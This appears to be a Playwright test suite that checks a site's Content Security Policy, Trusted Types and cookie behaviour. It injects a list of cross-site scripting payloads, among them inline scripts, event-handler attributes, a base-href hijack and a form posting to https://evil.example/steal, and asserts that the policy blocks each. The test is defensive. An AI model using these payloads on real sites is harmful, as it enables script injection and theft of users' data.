"""If markup of a stranger ever got into a page, the policy would keep it from doing anything."""

import pytest
from playwright.sync_api import Browser, Route

from tests.support.hostile.headers import violations, watched_page
from tests.support.hostile.hostile_data import HostileSite

INJECTED = """
<script>window.hacked = 'inline'</script>
<script type="module">window.hacked = 'module'</script>
<script src="https://evil.example/a.js"></script>
<script src="data:text/javascript,window.hacked='data'"></script>
<img src="/favicon.ico" onload="window.hacked = 'handler'">
<img src="x" onerror="window.hacked = 'error'">
<img src="https://evil.example/pixel.gif">
<svg onload="window.hacked = 'svg'"></svg>
<style>h1 { position: fixed !important }</style>
<p id="styled" style="position: fixed">styled</p>
<link rel="stylesheet" href="https://evil.example/a.css">
<iframe id="frame" src="/about"></iframe>
<iframe srcdoc="<script>parent.hacked = 'srcdoc'</script>"></iframe>
<object data="/about"></object><embed src="/about">
<video src="https://evil.example/a.mp4" autoplay></video>
<base href="https://evil.example/">
<form id="form" action="https://evil.example/steal"><button>send</button></form>
<a id="link" href="javascript:window.hacked='link'">link</a>
<button id="button" onclick="window.hacked = 'click'">button</button>
"""
BLOCKED = {
    *("script-src-elem", "script-src-attr", "style-src-elem", "style-src-attr", "img-src"),
    *("frame-src", "object-src", "media-src", "base-uri", "form-action"),
}


@pytest.fixture
def site(from_store: HostileSite) -> str:
    """The address of a running site."""
    return from_store.address


def inject(route: Route) -> None:
    """Answer with the real page and its real headers, and a stranger's markup inside."""
    reply = route.fetch()
    body = reply.text().replace("</main>", f"{INJECTED}</main>", 1)
    assert INJECTED in body
    route.fulfill(response=reply, body=body)


def test_injected_markup_does_nothing(browser: Browser, site: str) -> None:
    context = browser.new_context()
    page, watch = watched_page(context, site)
    page.route(f"{site}/contact", inject)
    page.goto(f"{site}/contact")
    page.locator("#button").dispatch_event("click")
    page.locator("#link").dispatch_event("click")
    for place in ("h1", "#styled"):
        shown = page.locator(place).first.evaluate("(e) => getComputedStyle(e).position")
        assert shown != "fixed"
    assert page.locator("#frame").evaluate("(frame) => frame.contentDocument") is None
    # Last, as the browser believes itself on its way to another page from here on.
    page.evaluate("() => document.getElementById('form').submit()")
    page.wait_for_function("() => window.violations.includes('form-action')")
    assert violations(page) >= BLOCKED
    assert page.evaluate("() => [window.hacked ?? null, document.baseURI]") == [None, page.url]
    assert (watch.outside, watch.dialogs, page.url) == ([], [], f"{site}/contact")
    context.close()


def test_no_string_becomes_code_or_markup(browser: Browser, site: str) -> None:
    context = browser.new_context()
    page, _ = watched_page(context, site)
    page.goto(f"{site}/contact")
    for attempt in (
        "document.body.innerHTML = '<b>x</b>'",
        "document.write('<b>x</b>')",
        "document.createElement('script').text = 'window.hacked = 1'",
        "new DOMParser().parseFromString('<b>x</b>', 'text/html')",
    ):
        refused = page.evaluate(f"() => {{ try {{ {attempt}; }} catch (e) {{ return e.name }} }}")
        assert refused == "TypeError", attempt
    assert "require-trusted-types-for" in violations(page)
    context.close()


def test_no_cookie_and_nothing_stored_before_a_click(browser: Browser, site: str) -> None:
    context = browser.new_context(locale="en-US")
    page, _ = watched_page(context, site)
    for path in ("/", "/en/events", "/beyblade", "/nowhere"):
        page.goto(site + path)
        page.wait_for_load_state("networkidle")
    kept = "async () => [localStorage.length, sessionStorage.length, (await caches.keys()).length]"
    assert page.evaluate(kept) == [0, 0, 0]
    assert context.cookies() == []
    context.close()
